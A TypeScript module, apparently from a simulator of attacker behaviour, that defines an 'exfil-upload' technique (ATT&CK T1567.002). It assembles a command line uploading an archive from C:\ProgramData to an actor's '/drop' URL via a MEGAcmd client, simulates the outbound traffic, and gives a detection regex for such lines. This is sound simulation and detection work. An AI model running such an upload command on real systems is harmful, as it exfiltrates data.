import type { NetworkConnection } from "../../activity.ts";
import type { RunningTool } from "../../windows/tool.ts";
import { toolConnects } from "../../windows/tool-acts.ts";
import { endpointOf, urlOf } from "../actor-habits.ts";
import { toolTechnique, textOf, textParameter } from "../tool-technique.ts";

/** A third of an archive of some hundred megabytes, and what the other side says to it. */
function partOfArchive({ draws }: Pick<RunningTool, "draws">): NetworkConnection["traffic"] {
  return { sent: draws.between(60_000_000, 210_000_000), received: draws.between(90_000, 400_000) };
}

/** The archive leaves for a file-sharing site: the connection is seen, its bytes only where a firewall counts them. */
export const exfilUpload = toolTechnique({
  name: "exfil-upload",
  lookAlike: {
    by: "system/chores/off-site-copy",
    table: "DeviceProcessEvents",
    column: "ProcessCommandLine",
    shows: " put C:\\\\ProgramData\\\\\\S+ https?://",
  },
  summary: "Uploads an archive to a file-sharing site with a command-line client.",
  attack: ["T1567.002"],
  parameters: [
    textParameter("tool", "Path of the client; `C:\\ProgramData\\megacmd.exe` if left out."),
    textParameter("file", "Path of what is uploaded; `C:\\ProgramData\\it.zip` if left out."),
  ],
  yields: ["remote"],
  decide: ({ actor }) => {
    const { name, ip } = endpointOf(actor, "upload");
    return { remote: name === "" ? ip : name };
  },
  source: "MITRE ATT&CK G0125; Volexity",
  tools(_world, context) {
    const endpoint = endpointOf(context.actor, "upload");
    const path = textOf(context, "tool", "C:\\ProgramData\\megacmd.exe");
    const line = `${path} put ${textOf(context, "file", "C:\\ProgramData\\it.zip")} ${urlOf(endpoint, "/drop")}`;
    return [
      {
        path,
        line,
        runsMs: context.draws.between(24_000, 55_000),
        acts: (tool) => [0.1, 0.4, 0.7].forEach((share) => toolConnects(tool, { ...endpoint, share, traffic: partOfArchive(tool) })),
      },
    ];
  },
});
